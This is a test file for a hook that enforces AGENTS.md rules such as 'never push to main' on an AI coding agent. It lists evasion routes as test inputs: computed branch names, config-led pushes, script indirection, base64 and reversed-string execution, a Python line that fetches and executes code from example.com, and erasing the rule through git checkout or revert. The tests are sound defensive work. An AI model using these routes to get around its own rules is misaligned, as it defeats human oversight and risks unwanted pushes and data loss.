// Ways around a rule that a stranger found with real hosts, each through the hook on a real repository, beside a neighbour that
// must stay as it was.

import { execFileSync } from "node:child_process";
import { mkdirSync, rmSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { describe, expect, test } from "vitest";
import { makeWarmWorld as makeWorld, type World } from "../kit.ts";
import { fire, fireCall } from "./hookKit.ts";

function git(world: World, ...args: readonly string[]): void {
  execFileSync("git", ["-c", "user.name=t", "-c", "user.email=t@example.com", ...args], { cwd: world.project, stdio: "ignore" });
}

function put(world: World, file: string, content: string): void {
  const path = join(world.project, file);
  mkdirSync(dirname(path), { recursive: true });
  writeFileSync(path, content);
}

/** A repository on main whose last commit has the rule. */
function repository(rules = "- Never push to `main`.\n"): World {
  const world = makeWorld();
  git(world, "init", "-q", "-b", "main");
  put(world, "README.md", "hello\n");
  git(world, "add", "-A");
  git(world, "commit", "-qm", "start");
  put(world, "AGENTS.md", rules);
  git(world, "add", "-A");
  git(world, "commit", "-qm", "rules");
  return world;
}

function verdictOf(world: World, command: string, session = "s1"): string {
  const { out } = fireCall(world, "claude", "shell", command, session);
  return out === ""
    ? "allow"
    : ((JSON.parse(out) as { hookSpecificOutput?: { permissionDecision?: string } }).hookSpecificOutput?.permissionDecision ?? "allow");
}

const verdictsOf = (world: World, commands: readonly string[]) => commands.map((each) => `${verdictOf(world, each)} ${each}`);
const all = (verdict: string, commands: readonly string[]) => commands.map((each) => `${verdict} ${each}`);

describe("a push to a branch that is computed", () => {
  const PRESENT = [
    "git push origin $(git branch --show-current)",
    "git push origin `git rev-parse --abbrev-ref HEAD`",
    'git push origin "$(git symbolic-ref --short HEAD)"',
    'BR=$(git branch --show-current); git push origin "$BR"',
    "git push origin HEAD:$(git branch --show-current)",
  ];
  const UNKNOWN = [
    'git push origin "$X"',
    "git push origin HEAD:refs/heads/$X",
    "git push origin $(cat branch.txt)",
    "git push origin 'refs/heads/*'",
    "git push origin :",
    'git switch "$X" && git push',
  ];

  test("is one to the present branch where Git prints that branch, and asked about where nobody knows", () => {
    const world = repository();
    expect(verdictsOf(world, PRESENT)).toEqual(all("deny", PRESENT));
    expect(verdictsOf(world, UNKNOWN)).toEqual(all("ask", UNKNOWN));
  });

  test("passes on another branch, where the known part is no branch of the rule's, and without such a rule", () => {
    const world = repository();
    git(world, "switch", "-qc", "feat/x");
    const other = [...PRESENT, 'git push origin "feat/$X"', 'git push origin "v$VERSION"', 'git push origin "$X:feat/x"', "git push"];
    expect(verdictsOf(world, other)).toEqual(all("allow", other));
    expect(verdictOf(world, "git push --all origin")).toBe("ask");
    const plain = repository("- Always use `pnpm`, not `npm`.\n");
    const usual = [...PRESENT, 'git push origin "$X"', 'git switch "$X" && git push'];
    expect(verdictsOf(plain, usual)).toEqual(all("allow", usual));
  });
});

describe("a push whose words name no branch of the rule", () => {
  const SPELLED = ["git push origin heads/main", "git push origin feature:heads/main", "git push origin HEAD:heads/main"];
  const LED = [
    "git -c remote.origin.push=HEAD:main push",
    "git -c remote.origin.push=refs/heads/feature:refs/heads/main push origin feature",
    "git branch -u origin/main && git -c push.default=upstream push",
    "git config push.default upstream && git push",
    "git config set push.default matching && git push origin",
  ];
  const ORDINARY = [
    "git push",
    "git push -u origin feature",
    "git -c push.default=current push",
    "git config push.default simple && git push",
    "git config push.default upstream && git config push.default current && git push",
    "git -c push.default=upstream push origin HEAD:feature",
    "git push origin heads/feature",
  ];

  test("is stopped where `heads/main` spells it, and asked about where settings say where it goes", () => {
    const world = repository();
    git(world, "switch", "-qc", "feature");
    expect(verdictsOf(world, SPELLED)).toEqual(all("deny", SPELLED));
    expect(verdictsOf(world, LED)).toEqual(all("ask", LED));
    expect(verdictsOf(makeOther(), ORDINARY)).toEqual(all("allow", ORDINARY));
  });

  test("is asked about after an earlier call of the session made such a setting", () => {
    for (const setting of ["git config remote.origin.push HEAD:main", "git config --add push.default upstream"]) {
      const world = makeOther();
      expect(verdictOf(world, "git push")).toBe("allow");
      fire(world, "claude", "PostToolUse", { tool_name: "Bash", tool_input: { command: setting }, tool_response: {} });
      expect(verdictOf(world, "git push"), setting).toBe("ask");
      expect(verdictOf(world, "git push", "another")).toBe("allow");
    }
  });

  function makeOther(): World {
    const world = repository();
    git(world, "switch", "-qc", "feature");
    return world;
  }
});

describe("every manager's way of running a script", () => {
  const WAYS = [
    ..."pnpm x|pnpm run x|pnpm -r x|yarn x|npm run x|bun x|bun run x|node --run x|corepack pnpm x|npx run-s x|deno task y".split("|"),
    ..."npm t|npm test|npm start|npm stop|npm restart|pnpm t|npm it|npm pack|composer z|composer run z|npx concurrently npm:x".split("|"),
  ];

  test("is read alike: what the script runs counts as if it was typed", () => {
    const world = repository();
    const names = ["x", "test", "start", "stop", "prepack"];
    put(world, "package.json", JSON.stringify({ scripts: Object.fromEntries(names.map((name) => [name, "sh d.sh"])) }));
    put(world, "deno.jsonc", '{\n  // what to run\n  "tasks": { "y": { "command": "sh d.sh" } },\n}\n');
    put(world, "composer.json", JSON.stringify({ scripts: { z: ["@php -v", "sh d.sh"] } }));
    put(world, "d.sh", "git push origin main\n");
    expect(verdictsOf(world, WAYS)).toEqual(all("deny", WAYS));
    put(world, "d.sh", "echo hello\n");
    expect(verdictsOf(world, WAYS)).toEqual(all("allow", WAYS));
  });
});

describe("a committed recipe", () => {
  const RUNS = ["npm test", "yarn x", "make y", "just z"];
  const COMMITTED: Readonly<Record<string, string>> = {
    "package.json": JSON.stringify({ scripts: { test: "rm -rf data && MODE=1 sh ./d.sh", x: "node -r ./a.js tools/d.js" } }),
    Makefile: "y:\n\t@rm -rf data; sh d.sh\n",
    justfile: "z:\n    python3 d.py\n",
    "data/1.csv": "1\n",
    "d.sh": "echo\n",
    "d.py": "print(1)\n",
    "tools/d.js": "1;\n",
    "a.js": "1;\n",
  };

  test("that runs a script which is new or changed: that script is read, and the recipe itself stays ordinary", () => {
    const world = repository();
    for (const [file, text] of Object.entries(COMMITTED)) put(world, file, text);
    git(world, "add", "-A");
    git(world, "commit", "-qm", "recipes");
    expect(verdictsOf(world, RUNS)).toEqual(all("allow", RUNS));
    put(world, "d.sh", "echo hello\n");
    put(world, "a.js", "2;\n");
    expect(verdictsOf(world, RUNS)).toEqual(all("allow", RUNS));
    put(world, "d.sh", "git push origin main\n");
    put(world, "d.py", "import os\nos.system('git push origin main')\n");
    put(world, "tools/d.js", "require('child_process').execSync('git push origin main')\n");
    expect(verdictsOf(world, RUNS)).toEqual(all("deny", RUNS));
  });
});

describe("code that hides what it runs", () => {
  const base64 = (text: string) => Buffer.from(text).toString("base64");
  const PUSH = base64("git push origin main");
  const HIDDEN: Readonly<Record<string, string>> = {
    "a.py": `import base64\nexec(base64.b64decode("${base64("print(1)")}"))\n`,
    "b.py": `import base64, pty\np = base64.b64decode\npty.spawn(["sh", "-c", p("${PUSH}").decode()])\n`,
    "c.py": 'import os\nos.system("niam nigiro hsup tig"[::-1])\n',
    "d.py": "import urllib.request\nexec(urllib.request.urlopen('https://example.com/x.py').read())\n",
    "e.js": `require("child_process").execSync(Buffer.from("${PUSH}", "base64").toString());\n`,
    "f.js": "new Function(String.fromCharCode(103, 105, 116))();\n",
    "g.rb": `system("${PUSH}".unpack1("m"))\n`,
    "h.pl": 'use MIME::Base64;\neval decode_base64("cHJpbnQgMQ==");\n',
    "i.sh": `python3 -c "exec(__import__('base64').b64decode('${base64("print(1)")}'))"\n`,
  };
  const PLAIN: Readonly<Record<string, string>> = {
    "a.py": 'import base64, sys\nprint(base64.b64decode(sys.argv[1]))\nexec("print(1)")\n',
    "b.py": "import subprocess, sys\nsubprocess.run(sys.argv[1:])\nnumbers = sorted([2, 1], reverse=True)\n",
    "e.js": 'const { execSync } = require("child_process");\nexecSync(process.argv[2]);\nhash.digest("hex");\n',
    "g.rb": 'require "base64"\nputs Base64.decode64("aGVsbG8=")\nsystem("git", "log")\n',
    "i.sh": "echo aGVsbG8= | base64 -d\n",
  };
  const RUNS: Readonly<Record<string, string>> = { py: "python3", js: "node", rb: "ruby", pl: "perl", sh: "sh" };
  const judged = (scripts: Readonly<Record<string, string>>) => {
    const world = repository();
    for (const [file, text] of Object.entries(scripts)) put(world, file, text);
    const commands = Object.keys(scripts).map((file) => `${RUNS[file.slice(2)] ?? ""} ${file}`);
    return { commands, verdicts: verdictsOf(world, commands) };
  };

  test("is asked about in a new file as it is on the command line", () => {
    const { commands, verdicts } = judged(HIDDEN);
    expect(verdicts).toEqual(all("ask", commands));
  });

  test("and not where a script only decodes, runs what it is told, or evaluates what can be read", () => {
    const { commands, verdicts } = judged(PLAIN);
    expect(verdicts).toEqual(all("allow", commands));
  });
});

describe("a line of .gitignore that was committed while the session ran", () => {
  const deleteData = (world: World, session: string) => fireCall(world, "claude", "shell", "rm -rf data", session).out;

  test("makes nothing junk: what it names goes to the trash; negative control: one from before does", () => {
    const [during, before] = [repository(), repository()];
    for (const world of [during, before]) put(world, "data/a.txt", "months of work\n");
    expect(verdictOf(during, "git status")).toBe("allow");
    for (const world of [during, before]) {
      put(world, ".gitignore", "data/\n");
      git(world, "add", ".gitignore");
      git(world, "commit", "-qm", "ignore data");
    }
    expect(deleteData(during, "s1")).toContain("trash put");
    expect(deleteData(before, "s1")).not.toContain("trash put");
  });
});

describe("a script that was committed while the session ran", () => {
  const SCRIPTS: Readonly<Record<string, string>> = {
    "dd.sh": "git push origin main\n",
    "dd.py": "import os\nos.system('git push origin main')\n",
    "dd.js": "require('child_process').execSync('git push origin main')\n",
    Makefile: "dd:\n\tgit push origin main\n",
    "package.json": JSON.stringify({ scripts: { dd: "git push origin main" } }),
  };
  const RUNS = ["sh dd.sh", "./dd.sh", "python3 dd.py", "node dd.js", "make dd", "npm run dd"];

  function withScripts(world: World): void {
    for (const [file, text] of Object.entries(SCRIPTS)) put(world, file, text);
    git(world, "add", "-A");
  }

  test("is read like a new one, staged, committed or packed", () => {
    const world = repository();
    expect(verdictOf(world, "git status")).toBe("allow");
    withScripts(world);
    expect(verdictsOf(world, RUNS)).toEqual(all("deny", RUNS));
    git(world, "commit", "-qm", "helper");
    expect(verdictsOf(world, RUNS)).toEqual(all("deny", RUNS));
    git(world, "gc", "-q");
    expect(verdictsOf(world, RUNS)).toEqual(all("deny", RUNS));
    // Another session finds it committed.
    expect(RUNS.map((each) => `${verdictOf(world, each, "s2")} ${each}`)).toEqual(all("allow", RUNS));
  });

  test("and one that was committed before stays ordinary, loose or packed, also after a switch and other commits", () => {
    const world = repository();
    withScripts(world);
    git(world, "commit", "-qm", "helper");
    expect(verdictsOf(world, RUNS)).toEqual(all("allow", RUNS));
    git(world, "switch", "-qc", "feat/x", "HEAD~1");
    git(world, "commit", "-q", "--allow-empty", "-m", "more");
    git(world, "switch", "-q", "main");
    expect(verdictsOf(world, RUNS)).toEqual(all("allow", RUNS));
    const packed = repository();
    withScripts(packed);
    git(packed, "commit", "-qm", "helper");
    git(packed, "gc", "-q");
    expect(verdictsOf(packed, RUNS)).toEqual(all("allow", RUNS));
    put(packed, "other.txt", "other\n");
    git(packed, "add", "-A");
    git(packed, "repack", "-q");
    expect(verdictsOf(packed, RUNS)).toEqual(all("allow", RUNS));
  });
});

describe("rules that Git takes away while a session runs", () => {
  const PUSH = "git push origin main";
  const WAYS: readonly (readonly string[])[] = [
    ["checkout", "-q", "HEAD~1"],
    ["reset", "-q", "--hard", "HEAD~1"],
    ["switch", "-qc", "old", "HEAD~1"],
    ["rm", "-q", "AGENTS.md"],
    ["revert", "--no-edit", "HEAD"],
  ];

  test.each(WAYS)("stay for that session: git %s", (...way) => {
    const world = repository();
    expect(verdictOf(world, PUSH)).toBe("deny");
    git(world, ...way);
    const { out } = fireCall(world, "claude", "shell", PUSH);
    expect(out).toContain("AGENTS.md:1");
    expect(out).toContain("until a person starts a new session");
    // Another folder of the project, and a call that passed before the rule was there.
    expect(verdictOf(world, `cd sub; ${PUSH}`)).toBe("deny");
    expect(verdictOf(world, "git push origin feat/x")).toBe("allow");
    // Another session has the rules of the disk.
    expect(verdictOf(world, PUSH, "s2")).toBe("allow");
  });

  test("and no longer where the line is back, or where a person edits the file or removes it", () => {
    const world = repository();
    expect(verdictOf(world, PUSH)).toBe("deny");
    put(world, "AGENTS.md", "- Always use `pnpm`, not `npm`.\n");
    expect(verdictOf(world, PUSH)).toBe("allow");
    git(world, "checkout", "-q", "--", "AGENTS.md");
    expect(verdictOf(world, PUSH)).toBe("deny");
    rmSync(join(world.project, "AGENTS.md"));
    expect(verdictOf(world, PUSH)).toBe("allow");
    git(world, "checkout", "-q", "HEAD~1");
    expect(verdictOf(world, PUSH)).toBe("allow");
    git(world, "checkout", "-q", "main");
    expect(fireCall(world, "claude", "shell", PUSH).out).toContain("codicil policy dismiss AGENTS.md:1");
  });

  test("and the rules of one project do not follow the session into another", () => {
    const world = repository();
    const other = repository("- Always use `pnpm`, not `npm`.\n");
    expect(verdictOf(world, PUSH)).toBe("deny");
    git(world, "checkout", "-q", "HEAD~1");
    expect(verdictOf(world, PUSH)).toBe("deny");
    const elsewhere = { session_id: "s1", cwd: other.project, tool_name: "Bash", tool_input: { command: PUSH } };
    expect(fire(world, "claude", "PreToolUse", elsewhere).out).toBe("");
  });
});
